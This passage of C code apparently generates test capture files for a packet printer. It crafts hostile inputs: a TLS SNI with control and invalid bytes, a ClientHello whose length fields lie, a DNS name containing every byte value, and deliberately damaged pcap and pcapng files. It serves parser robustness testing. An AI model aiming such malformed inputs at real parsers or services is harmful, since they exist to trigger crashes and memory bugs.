	conv_say(&v, 1, "HTTP/1.1 404 Not \"Found\"\r\n\r\n");
	/* 6. TLS ClientHello with a hostile SNI, and one with lengths that lie */
	static const uint8_t sni[] = { 'e', 'v', '"', 'i', 'l', '\\', 0x00, 0x1f, 0xff, 0xed, 0xbf, 0xbf, '.', 'x' };
	n = client_hello(m, sni, sizeof sni);
	tcp_pkt(&c, mac_a, mac_b, "10.66.0.1", 40005, "10.66.0.43", 443, F_PSH | F_ACK, 1, 1, 5840, m, n, 0);
	tick(&c, 1000);
	n = client_hello(m, "lie.example", 11);
	put16(m + 9 + 2 + 32 + 1, 0xfff0); /* cipher suites run past the end */
	tcp_pkt(&c, mac_a, mac_b, "10.66.0.1", 40006, "10.66.0.43", 443, F_PSH | F_ACK, 1, 1, 5840, m, n, 0);
	tick(&c, 1000);
	/* 7. IPv6 and VLAN-tagged IPv6 HTTP requests */
	static const char req6[] = "POST /v6 HTTP/1.0\r\nHost: [2001:db8::2]\r\n\r\n";
	tcp6_pkt(&c, 0, req6, sizeof req6 - 1, F_PSH | F_ACK);
	tick(&c, 1000);
	tcp6_pkt(&c, 1, req6, sizeof req6 - 1, F_PSH | F_ACK);
	tick(&c, 1000);
	/* 8. a DNS query whose name holds every byte value, 0x00 to 0xff, in
	 * five labels of 52 bytes (the last 48) */
	put16(m, 0x2222); put16(m + 2, 0x0100); put16(m + 4, 1); memset(m + 6, 0, 6);
	n = 12;
	for (unsigned b = 0; b < 256; b += 52) {
		unsigned l = 256 - b < 52 ? 256 - b : 52;
		m[n++] = (uint8_t)l;
		for (unsigned i = 0; i < l; i++)
			m[n++] = (uint8_t)(b + i);
	}
	m[n++] = 0;
	put16(m + n, 1); put16(m + n + 2, 1);
	n += 4;
	udp_pkt(&c, "10.66.0.1", 40007, "10.66.0.53", 53, m, n);
	fclose(c.f);
	return 0;
}

/* Damaged files: a record longer than any snapshot (after a good packet), a
 * pcapng whose second packet block has a length that is not a multiple of 4,
 * and a capture of a link type no printer knows (USER0). */
static int gen_damaged(const char *kind, const char *path)
{
	static const uint8_t pkt[34] = { [12] = 0x08, [14] = 0x45, [17] = 20, [22] = 64, [23] = 253,
					 [26] = 1, 2, 3, 4, 5, 6, 7, 8 };
	FILE *f = fopen(path, "wb");
	if (!f)
		return 1;
	uint8_t h[24], r[16];
	if (!strcmp(kind, "badng")) {
		static const uint8_t shb[28] = { 0x0a, 0x0d, 0x0d, 0x0a, 28, 0, 0, 0, 0x4d, 0x3c, 0x2b, 0x1a,
						 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
						 28, 0, 0, 0 };
		static const uint8_t idb[20] = { 1, 0, 0, 0, 20, 0, 0, 0, 1, 0, 0, 0, 0xff, 0xff, 0, 0,
						 20, 0, 0, 0 };
		fwrite(shb, 1, sizeof shb, f);
		fwrite(idb, 1, sizeof idb, f);
		uint8_t epb[28 + 36 + 4];
		memset(epb, 0, sizeof epb);
		put32le(epb, 6);
		put32le(epb + 4, sizeof epb);
		put32le(epb + 16, 100);
		put32le(epb + 20, 34);
		put32le(epb + 24, 34);
		memcpy(epb + 28, pkt, 34);
		put32le(epb + sizeof epb - 4, sizeof epb);
		fwrite(epb, 1, sizeof epb, f);
		put32le(epb + 4, 66); /* not a multiple of 4 */
		fwrite(epb, 1, 16, f);
		fclose(f);
		return 0;
	}
	put32le(h, 0xa1b2c3d4);
	h[4] = 2; h[5] = 0; h[6] = 4; h[7] = 0;
	put32le(h + 8, 0); put32le(h + 12, 0); put32le(h + 16, 65535);
	put32le(h + 20, !strcmp(kind, "user0") ? 147 : 1);
	fwrite(h, 1, 24, f);
	put32le(r, 100); put32le(r + 4, 5); put32le(r + 8, 34); put32le(r + 12, 34);
	fwrite(r, 1, 16, f);
	fwrite(pkt, 1, 34, f);
	if (!strcmp(kind, "hugecap")) {
		put32le(r, 101); put32le(r + 8, 300000); put32le(r + 12, 300000);
		fwrite(r, 1, 16, f);
		fwrite(pkt, 1, 34, f);
	}
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: gen demo|basics|snapped|truncated|hostile FILE\n");
		return 2;
	}
	if (!strcmp(argv[1], "demo"))
		return gen_demo(argv[2]);
	if (!strcmp(argv[1], "basics"))
		return gen_basics(argv[2], 65535);
	if (!strcmp(argv[1], "snapped"))
		return gen_basics(argv[2], 60);
	if (!strcmp(argv[1], "truncated"))
		return gen_truncated(argv[2]);
	if (!strcmp(argv[1], "hugecap") || !strcmp(argv[1], "badng") || !strcmp(argv[1], "user0"))
		return gen_damaged(argv[1], argv[2]);
	if (!strcmp(argv[1], "hostile"))
		return gen_hostile(argv[2]);
	fprintf(stderr, "gen: unknown capture %s\n", argv[1]);
	return 2;
}
